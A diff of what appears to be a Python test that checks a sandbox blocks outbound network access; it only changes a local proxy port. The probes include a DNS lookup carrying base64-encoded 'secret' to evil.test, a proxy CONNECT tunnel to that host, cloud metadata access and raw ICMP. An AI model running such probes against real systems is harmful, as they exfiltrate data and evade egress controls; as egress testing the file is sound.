@@ -64,7 +64,7 @@ past = [
     *((reach, family, UDP, (world, port)) for family, world in ((V4, WORLD4), (V6, WORLD6)) for port in (443, 8080)),
     *((reach, family, UDP, (world, 53), 0, question("c2VjcmV0.evil.test")) for family, world in ((V4, WORLD4), (V6, WORLD6))),
     (reach, V4, TCP, (METADATA, 8081), 0, b""), (reach, V4, TCP, ("127.0.0.1", 7777), 0, b""),
-    (reach, V4, TCP, ("127.0.0.1", 15001), 0, b"CONNECT evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n"),
+    (reach, V4, TCP, ("127.0.0.1", 1001), 0, b"CONNECT evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n"),
     (secure, WORLD4, "evil.test"), (socket.getaddrinfo, "c2VjcmV0.evil.test", 443),
     (reach, V4, RAW, (WORLD4, 0), socket.IPPROTO_ICMP, ECHO), (reach, V6, RAW, (WORLD6, 0), socket.IPPROTO_ICMPV6, ECHO6),
     (reach, V4, UDP, (WORLD4, 0), socket.IPPROTO_ICMP, ECHO), (reach, V4, RAW, (WORLD4, 0), 253), (packet,),
@@ -72,7 +72,7 @@ past = [
 ]
 tool = [
     (reach, V4, TCP, (WORLD4, 80), 0, GET), (secure, WORLD4, API),
-    (reach, V4, TCP, ("127.0.0.1", 15001), 0, GET.replace(b" /", b" http://%b/" % WIKI.encode(), 1)),
+    (reach, V4, TCP, ("127.0.0.1", 1001), 0, GET.replace(b" /", b" http://%b/" % WIKI.encode(), 1)),
 ]
 def attempt(how, *what):
     try: how(*what)
@@ -88,7 +88,7 @@ for line in sys.stdin:
 SHOWN = [
     *(f"> {world}.{port}: {kind}" for world in (WORLD4, WORLD6) for port, kind in
       ((8080, "tcp"), (22, "tcp"), (53, "tcp"), (80, "tcp"), (443, "UDP"), (8080, "UDP"), (53, "UDP"))),
-    f"> {METADATA}.8081: tcp", "> 127.0.0.1.7777: tcp", "> 127.0.0.1.15001: tcp", f"> {WORLD4}.443: tcp",
+    f"> {METADATA}.8081: tcp", "> 127.0.0.1.7777: tcp", "> 127.0.0.1.1001: tcp", f"> {WORLD4}.443: tcp",
     f"> {WORLD4}: ICMP echo request", f"> {WORLD6}: ICMP6, echo request", "-253 1", "ifindex",
 ]  # fmt: skip
 
